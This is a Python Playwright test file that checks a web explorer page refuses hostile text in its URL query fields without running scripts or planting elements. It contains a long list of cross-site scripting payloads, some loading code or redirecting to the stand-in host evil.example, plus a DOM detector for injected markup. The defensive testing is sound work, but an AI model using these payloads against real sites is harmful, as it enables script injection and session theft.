"""Hostile text in every field that an address can fill: it shows as text, or is refused in a
sentence. No script of it runs, nothing is asked for, and the page goes on.

The payloads are tried by the hundred in one page, as a reader's Back and Forward would bring them;
then some again from cold, since a page opens an address in another way than it follows one.
"""

from collections.abc import Callable
from typing import Any, Final
from urllib.parse import quote, unquote

import pytest
from playwright.sync_api import Page, expect

from explorer.essays import CHAPTERS
from tests.browser.reading import step

Open = Callable[..., Page]
ESSAY: Final = CHAPTERS[0]

PAYLOADS: Final = (
    # elements that run something by themselves
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script\n>",
    "<script type=module>import('//evil.example/x')</script>",
    "<script type=application/json id=runtime-data>{}</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=data:image/svg+xml,<svg/onload=alert(1)>#x>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel>",
    "<img src=x:x onerror=alert(1)//",
    "<image href=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<p onpointerover=alert(1)>here</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>go</button></form>",
    "<a href=javascript:alert(1)>go</a>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    # ways out of what may be around it
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</title></textarea></style><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' style='background:url(//evil.example/x)' x='",
    "`${alert(1)}`",
    "';alert(1);//",
    '";alert(1);//',
    "\\';alert(1);//",
    "\u2028alert(1)//",
    "{{constructor.constructor('alert(1)')()}}",
    "${globalThis.constructor.constructor('alert(1)')()}",
    "<!--?lit$0$--><img src=x onerror=alert(1)>",
    "<?lit$123456789$>{{lit-0}}",
    # names and addresses with a meaning of their own
    "javascript:alert(1)",
    "jAvAsCrIpT:alert(1)//",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
    # text that is not what it seems
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "＜img src=x onerror=alert(1)＞",
    "\u202egpj.<script>alert(1)</script>",
    "\x00<img src=x onerror=alert(1)>",
    "\ufeff<svg onload=alert(1)>",
    "%3Cimg src=x onerror=alert(1)%3E",
    "%253Csvg onload=alert(1)%253E",
    "a" * 70 + "<img src=x onerror=alert(1)>",
)
FIELDS: Final = {
    "seed": "?mode=warn&seed={}",
    "writers": "?mode=warn&writers=careful,{}",
    "an option": "?mode={}",
    "grants": "?mode=warn&grants={}",
    "faults": "?mode=warn&faults={}",
    "a fault's error": "?mode=warn&faults=A1before:{}",
    "their probability": "?mode=warn&faults=*before:crash&p={}",
    "journal": "?mode=warn&journal={}",
    "tz": "?mode=warn&tz={}",
    "timers": "?mode=warn&timers={}",
    "timeout": "?mode=warn&timeout={}",
    "granularity": "?mode=warn&granularity={}",
    "policy": "?mode=warn&policy={}",
    "check": "?mode=warn&grants=ABAB&check={}",
    "step": "?mode=warn&grants=ABAB&step={}",
    "an unknown key": "?mode=warn&{}=1",
    "an unknown key's value": "?mode=warn&colour={}",
    "no key at all": "?{}",
}

GOOD: Final = "?mode=warn&grants=AABB"

PLANTED: Final = """() => {
  const found = [...document.querySelectorAll(
    "img, iframe, object, embed, base, form, style, template, video, audio, math, foreignObject, "
    + "marquee, xmp, image, script:not([src]):not([type='application/json']), [src^='//'], "
    + "[href^='//']")];
  const attributes = [...document.querySelectorAll("head *, body, body *")]
    .flatMap((one) => [...one.attributes])
    .filter(({ name, value }) => /^(on|srcdoc|style|autofocus)/i.test(name)
      || (/href|src|action|data|poster|ping|content/i.test(name)
        && /^\\s*(javascript|data:text)/i.test(value)))
    .map(({ name, value }) => `${name}=${value}`);
  return [...found.map((one) => one.outerHTML), ...attributes];
}"""
GO: Final = """address => {
  history.pushState(null, "", address);
  dispatchEvent(new PopStateEvent("popstate"));
}"""
WATCH: Final = f"""
  const planted = {PLANTED};
  const go = {GO};
  const alerted = () => document.querySelector("[role=alert]")?.textContent ?? "";
  const until = async (what) => {{
    const end = performance.now() + 30_000;
    while (!what() && performance.now() < end) await new Promise(requestAnimationFrame);
  }};
"""
TRY: Final = (
    "async ([good, addresses]) => {"
    + WATCH
    + """
  const said = [];
  for (const address of addresses) {
    go(good);
    await until(() => !alerted());
    go(address);
    await until(alerted);
    said.push({ alert: alerted(), planted: planted() });
  }
  return said;
}"""
)


def test_there_are_fifty_and_each_is_another() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50


@pytest.fixture
def opened(new_page: Open) -> Open:
    """Opens a page whose every dialog fails the test; requests and errors fail it anyway."""

    def open_one(address: str) -> Page:
        page = new_page(address)
        page.on("dialog", lambda dialog: pytest.fail(f"a script ran: {dialog.message}"))
        page.wait_for_selector("html[data-ready]")
        return page

    return open_one


def names_it(alert: str, payload: str, address: str) -> bool:
    """Whether a sentence quotes what it refuses: the text, or the key that it stands under."""
    key = address.lstrip("?").split("&")[-1].partition("=")[0]
    told = " ".join(f"{alert} {unquote(alert)}".split())
    said = " ".join(payload.split(",")[0][:20].split())
    return said in told or f"“{key}”" in told


def refused(page: Page, addresses: dict[str, str], good: str = GOOD) -> None:
    """Try each payload's address in one page."""
    told: list[dict[str, Any]] = page.evaluate(TRY, [good, list(addresses.values())])
    for (payload, address), one in zip(addresses.items(), told, strict=True):
        assert one["planted"] == [], payload
        assert names_it(one["alert"], payload, address), (payload, one["alert"])
        assert len(one["alert"]) < 900, payload


@pytest.mark.parametrize("field", FIELDS)
def test_in_an_address_it_is_refused_in_a_sentence(opened: Open, field: str) -> None:
    page = opened(f"sections/{GOOD}")
    refused(page, {one: FIELDS[field].format(quote(one, safe="")) for one in PAYLOADS})
    page.evaluate(GO, "?mode=warn&grants=ABAB&step=3")
    expect(page.get_by_role("alert")).to_have_count(0)
    page.get_by_label("Back one grant").click()
    assert step(page) == 2, "the page goes on"


def test_in_an_essays_address_it_is_refused_beside_the_figure_that_it_names(opened: Open) -> None:
    essay, figure = ESSAY.slug, ESSAY.figures[0]
    page = opened(f"{essay}/")
    named = f"?figure={figure.id}&"
    good = named + figure.recipe.partition("?")[2]
    refused(page, {one: f"{named}seed={quote(one, safe='')}" for one in PAYLOADS}, good)


def test_a_figure_that_there_is_not_changes_nothing(opened: Open) -> None:
    page = opened(f"{ESSAY.slug}/")
    before = page.locator("main").inner_html()
    for payload in PAYLOADS:
        page.evaluate(GO, f"?figure={quote(payload, safe='')}&mode={quote(payload, safe='')}")
    assert page.locator("main").inner_html() == before


def test_what_stands_behind_the_fence_of_an_address_is_not_looked_at(opened: Open) -> None:
    page = opened(f"sections/{GOOD}")
    before = page.locator("table.run").inner_html()
    for payload in PAYLOADS:
        page.evaluate("to => { location.hash = to }", payload)
    assert page.locator("table.run").inner_html() == before
    expect(page.get_by_role("alert")).to_have_count(0)
    page.reload()
    page.wait_for_selector("html[data-ready]")
    assert page.evaluate(PLANTED) == []


@pytest.mark.parametrize("place", range(len(FIELDS)), ids=list(FIELDS))
def test_a_page_that_opens_with_it_says_so_and_shows_its_opening_run(
    opened: Open, site: str, place: int
) -> None:
    """Each payload once, in one field or another."""
    page = opened("sections/")
    shape = list(FIELDS.values())[place]
    for payload in PAYLOADS[place :: len(FIELDS)]:
        address = shape.format(quote(payload, safe=""))
        page.goto(f"{site}sections/{address}")
        page.wait_for_selector("html[data-ready]")
        alert = page.get_by_role("alert")
        expect(alert).to_contain_text("The opening run is shown instead.", timeout=60_000)
        assert names_it(alert.inner_text(), payload, address)
        assert page.evaluate(PLANTED) == []


@pytest.mark.parametrize(
    ("name", "attribute"),
    [("a", "href"), ("script", "id"), ("img", "alt"), ("base", "target"), ("p", "autofocus")],
)
def test_what_a_careless_page_would_plant_is_seen(opened: Open, name: str, attribute: str) -> None:
    page = opened(f"sections/{GOOD}")
    assert page.evaluate(PLANTED) == []
    page.evaluate(
        """([name, attribute]) => {
          const one = document.createElement(name);
          one.setAttributeNS(null, attribute, attribute === "href" ? " javascript:alert(1)" : "x");
          document.querySelector("main").append(one);
        }""",
        [name, attribute],
    )
    assert page.evaluate(PLANTED) != []
